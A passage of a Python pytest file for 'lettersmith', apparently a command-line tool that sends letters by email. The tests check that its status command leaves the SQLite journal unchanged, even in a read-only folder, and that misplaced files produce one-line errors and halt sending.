    return {str(p): p.read_bytes() if p.is_file() else b"" for p in sorted(root.rglob("*"))}


def test_status_only_reads(ws: Path) -> None:
    before = snapshot(ws)
    result = run(ws, "status", LETTER)
    assert result.exit_code == 0, result.output
    assert snapshot(ws) == before


@pytest.mark.parametrize("read_only_folder", [False, True])
def test_status_reads_a_journal_without_writing_to_it(ws: Path, monkeypatch, read_only_folder):
    """A crash left a row `sending`: status shows it `unknown`, and changes no file; in a
    read-only copy (where SQLite cannot even add its shared-memory file) too."""
    from lettersmith.deliver.journal import Journal
    from lettersmith.deliver.message import Outgoing

    out = Outgoing(LETTER, None, "smk", "postmottak@smk.dep.no", "<id@x>", "h", "a.pdf", 1,
                   "post@example.org", ("postmottak@smk.dep.no",), lambda: b"data")  # fmt: skip
    with Journal.open(ws / ".lettersmith") as journal:
        journal.record_sending(out)
    before = snapshot(ws)
    if read_only_folder:  # root ignores file modes: refuse the read-only open the way the OS would
        connect = sqlite3.connect

        def refusing(target, *args, **kwargs):
            if "mode=ro" in str(target):
                raise sqlite3.OperationalError("attempt to write a readonly database")
            return connect(target, *args, **kwargs)

        monkeypatch.setattr(sqlite3, "connect", refusing)
    result = run(ws, "status", LETTER)
    assert result.exit_code == 0, result.output
    assert "unknown" in result.output
    after = snapshot(ws)
    after.pop(str(ws / ".lettersmith" / "journal.sqlite-shm"), None)  # SQLite's own coordination
    after.pop(str(ws / ".lettersmith" / "journal.sqlite-wal"), None)
    before.pop(str(ws / ".lettersmith" / "journal.sqlite-wal"), None)
    assert after == before


def test_a_file_where_the_journal_folder_should_be_is_one_line(ws: Path, monkeypatch) -> None:
    monkeypatch.setenv("LETTERSMITH_SMTP_PASSWORD", "x")
    (ws / ".lettersmith").write_text("not a folder")
    output = assert_fails(run(ws, "send", LETTER, "--yes"), ".lettersmith")
    assert len(output.strip().splitlines()) == 1


def test_init_into_a_file_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "taken").write_text("a file")
    result = CliRunner().invoke(main, ["init", str(tmp_path / "taken" / "ws")])
    output = assert_fails(result, str(tmp_path / "taken"))
    assert len(output.strip().splitlines()) == 1


def test_a_journal_copy_that_cannot_be_written_stops_the_batch(mail_workspace, smtp_server):
    (mail_workspace / ".lettersmith").mkdir()
    (mail_workspace / ".lettersmith" / "sent").write_text("a file where a folder goes")
    result = run(mail_workspace, "send", LETTER, "--yes")
    assert_fails(result, ".lettersmith/sent/", "was not sent")
    assert smtp_server.handler.received == []
    status = run(mail_workspace, "status", LETTER)
    assert "sending" not in status.output and "unknown" not in status.output
    assert os.path.isfile(mail_workspace / ".lettersmith" / "sent")
